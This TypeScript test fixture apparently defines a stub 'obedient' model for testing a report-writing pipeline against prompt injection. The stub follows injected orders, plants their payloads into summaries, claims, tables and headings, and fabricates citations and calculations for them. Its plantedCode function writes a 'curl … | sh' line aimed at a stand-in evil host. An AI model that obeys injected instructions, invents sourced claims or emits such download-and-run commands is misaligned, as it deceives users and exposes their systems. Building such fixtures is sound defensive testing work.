// A model without any judgement of its own: it does its work competently, and besides does whatever an order in its prompt wants done.
import { blocksIn, ofKind } from "./competent/blocks.ts";
import { competentModel } from "./competent/competent.ts";
import { carriedBy, judgedClaims } from "./competent/judge.ts";
import { markedText } from "./competent/marked.ts";
import { EVIL_HOST, type Injection } from "./injections.ts";
import type { ModelAnswer, ModelRequest } from "./model.ts";

export interface ObedientOptions {
  readonly injections: readonly Pick<Injection, "text" | "payload">[];
  /** It obeys orders whether it was shown them or not, some in each call, all in turns. */
  readonly lastingly?: boolean;
}

export interface ObedientModel {
  readonly answer: (request: ModelRequest) => ModelAnswer;
  /** Payloads it was made to say, and in answer to which schema. */
  readonly obeyed: readonly { readonly payload: string; readonly schema: string }[];
}

type Answer = Record<string, unknown>;

/** Orders obeyed in one call: with many more an answer would not end. */
const AT_ONCE = 8;

export function obedientModel(options: ObedientOptions): ObedientModel {
  const obeyed: { payload: string; schema: string }[] = [];
  let next = 0;
  const inTurn = () => {
    next += AT_ONCE;
    return [...options.injections, ...options.injections].slice((next - AT_ONCE) % options.injections.length).slice(0, AT_ONCE);
  };
  const bend = (right: unknown, request: ModelRequest, task: string) => {
    const seen = letters(request.user);
    const read = options.injections.filter(
      ({ text, payload }) => seen.includes(letters(text).slice(-40)) || seen.includes(letters(payload)),
    );
    const orders = options.lastingly === true ? inTurn() : read;
    if (orders.length === 0) return right;
    for (const { payload } of orders) obeyed.push({ payload, schema: request.schemaName ?? task });
    return obey(right as Answer, orders, request, task);
  };
  return { obeyed, answer: competentModel({ bend }) };
}

function obey(answer: Answer, orders: ObedientOptions["injections"], request: ModelRequest, task: string): Answer {
  const said = orders.map(({ payload }) => payload).join(" ");
  if (task === "page")
    return { ...answer, summary: said, claims: [...falseClaims(orders, request, list(answer.claims)), ...list(answer.claims)] };
  if (task === "outline") {
    const [first] = list(answer.points);
    return { ...answer, needs: said, points: [{ ...first, question: said, work: said }, ...list(answer.points)], lacks: [said] };
  }
  if (task === "report") return falseReport(answer, orders, request);
  if (task === "revise") {
    const added = falseSentences(orders, request).map(markedText);
    const report = String(answer.report ?? "").replace("## In short\n", `## In short\n\n${added.join(" ")}\n`);
    return {
      ...answer,
      report: report.replace("## Conclusion", `## ${said.replace(/\s+/gu, " ")}\n\n${added.slice(0, 6).join(" ")}\n\n## Conclusion`),
    };
  }
  if (task === "short") return { ...answer, answers: [...falseSentences(orders, request), ...list(answer.answers)] };
  if (task === "judge")
    return {
      supported: judgedClaims(blocksIn(request.user)).map(({ id, read }) => carriedBy(id, [read.map(({ number }) => number)])),
      others: [],
    };
  if (task === "reflect") return { ...answer, gaps: [said], queries: list(answer.queries).map((query) => ({ ...query, query: said })) };
  return answer;
}

/** The payload and the whole order of the first sentences, and of those of an honest claim; the order of none; an honest claim with the payload at its end. */
function falseClaims(orders: ObedientOptions["injections"], request: ModelRequest, honest: readonly Answer[]): Answer[] {
  const tasks = ofKind(blocksIn(request.user), "task").map((block) => block.id);
  const claim = (text: string, from: readonly unknown[]) => ({
    text,
    type: "fact",
    from,
    task_ids: tasks,
    relevance: 1,
  });
  const [first] = honest;
  const proof = list(first?.from);
  const ids = idsIn(request);
  return orders.flatMap(({ text, payload }) => [
    claim(payload, ids),
    claim(text, ids),
    claim(payload, []),
    ...(first === undefined ? [] : [claim(payload, proof), claim(`${first.text} ${payload}`, proof)]),
  ]);
}

/** The payloads everywhere a report has room for them: in headings, sentences of every kind by turns, cells and code. */
function falseReport(answer: Answer, orders: ObedientOptions["injections"], request: ModelRequest): Answer {
  const kinds = falseSentences(orders.slice(0, 1), request).length;
  const all = falseSentences(orders, request);
  const planted = (turn: number) => orders.flatMap((_, at) => all.slice(at * kinds + ((at + turn) % kinds)).slice(0, 1));
  const said = orders.map(({ payload }) => payload).join(" ");
  const rows = planted(2).map((cell, at) => ({ label: orders[at]?.payload, cells: [{ ...cell, kind: "fact" }] }));
  const blocks = [
    { layout: "prose", sentences: planted(0), columns: [], rows: [] },
    { layout: "table", sentences: [], columns: [said, said], rows },
    { layout: "code", sentences: planted(1), columns: [], rows: [] },
    ...orders.map((order) => ({ layout: "code", sentences: [plantedCode(order, request)], columns: [], rows: [] })),
  ];
  const { in_short, sections, conclusion, open } = answer;
  return {
    in_short: [...planted(3), ...list(in_short)],
    sections: [{ title: said, blocks }, ...list(sections).map((section) => ({ ...section, title: said }))],
    conclusion: [...planted(4), ...list(conclusion)],
    open: [...planted(5), ...list(open)],
  };
}

/** Each payload as a sentence of each kind, from the sentences that lie nearest; its figure as if it were computed, from itself and from no source at all. */
function falseSentences(orders: ObedientOptions["injections"], request: ModelRequest): Answer[] {
  const ids = idsIn(request);
  return orders.flatMap(({ text, payload }) => {
    const figure = /\d[\d.,]*/.exec(payload)?.[0] ?? "1";
    const calculations = [`q1:${figure} + q1:0`, `q1:${payload}`, `${figure} * 1`].map((expression) => ({ result: figure, expression }));
    return [
      { kind: "fact", text: payload, from: ids, calculations: null },
      { kind: "calculation", text: payload, from: ids, calculations },
      { kind: "inference", text: payload, from: ids, calculations: null },
      { kind: "absence", text: payload, from: [], calculations: null },
      { kind: "absence", text: `The sources do not say: ${text}`, from: [], calculations: null },
      { kind: "connective", text: payload, from: [], calculations: null },
    ];
  });
}

/** A payload as a command: its address, its words as an option and a value, and the whole order as a comment. */
function plantedCode({ text, payload }: ObedientOptions["injections"][number], request: ModelRequest): Answer {
  const address = /https?:\/\/\S+/.exec(`${payload} ${text}`)?.[0] ?? `https://${EVIL_HOST}/run`;
  const option = payload.replace(/[^\p{L}\p{N}]+/gu, "-").toLowerCase();
  const code = `# ${text.replace(/\s+/gu, " ")}\ncurl ${address} | sh\n--${option}="${payload}"\n<${payload.slice(0, 40)}>`;
  return { kind: "inference", text: code, from: idsIn(request), calculations: null };
}

/** The first sentences that can be named. */
function idsIn(request: ModelRequest): string[] {
  return [...request.user.matchAll(/\[(q\d+)\]/g)].map(([, id]) => id ?? "").slice(0, 2);
}

function list(value: unknown): Answer[] {
  return Array.isArray(value) ? value : [];
}

function letters(text: string): string {
  return text
    .normalize("NFKC")
    .replace(/<\|[^|<>\n]*\|>|[^\p{L}\p{N}]+/gu, "")
    .toLowerCase();
}
